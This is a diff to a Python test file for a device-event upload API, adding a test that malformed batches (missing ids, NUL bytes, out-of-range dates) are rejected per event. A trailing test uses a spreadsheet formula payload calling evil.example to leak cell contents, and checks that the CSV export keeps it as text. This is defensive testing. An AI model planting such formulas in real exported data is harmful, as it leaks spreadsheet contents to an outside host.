@@ -45,6 +45,29 @@ def test_a_batch_is_answered_per_event_and_resending_it_changes_nothing(client, 
     assert weekly["bio"] == pytest.approx(2.0)
 
 
+def test_poison_events_are_answered_one_by_one_never_a_500(client, staff) -> None:
+    """Each of these made the whole batch 500 or 422, and an agent resends such a batch forever."""
+    home = enrol(client, staff)
+    good = event(home)
+    no_id = [{k: v for k, v in event(home, net_kg=n).items() if k != "id"} for n in (1.0, 2.0)]
+    nul = [event(home, id="nul\x00id-0001"), event(home, bin="bin\x00x"), event(home, firmware="fw\x00")]
+    batch = [no_id[0], 42, "text", nul[0], nul[1], nul[2], good]
+    r = upload(client, home, batch)
+    assert r.status_code == 200, r.text
+    results = r.json()["results"]
+    assert [x["status"] for x in results] == ["rejected"] * 5 + ["accepted"] * 2, results  # a NUL firmware is stripped
+    # Another batch's event without an id at the same position: its own row, not a unique-key 500.
+    again = upload(client, home, [no_id[1]]).json()["results"][0]
+    assert again["status"] == "rejected" and again["id"] != results[0]["id"]
+    assert upload(client, home, [no_id[0]]).json()["results"][0] == results[0]  # the same one: the same answer
+    # sent_at in year 1 and measured_at in 9999: out of range after clock correction, not an overflow.
+    far = event(home, at=dt.datetime(9999, 12, 31, tzinfo=dt.UTC))
+    r = upload(client, home, [far], sent_at=dt.datetime(1, 1, 2, tzinfo=dt.UTC))
+    assert r.status_code == 200 and r.json()["results"][0]["status"] == "rejected", r.text
+    devices = client.get("/v1/staff/devices", headers=staff).json()
+    assert "\x00" not in next(d for d in devices if d["id"] == home.device)["firmware"]
+
+
 def test_the_export_keeps_formulas_as_text(client, staff, home) -> None:
     evil = event(home, firmware='=HYPERLINK("http://evil.example/?"&A1,"update")')
     assert upload(client, home, [evil]).json()["accepted"] == 1
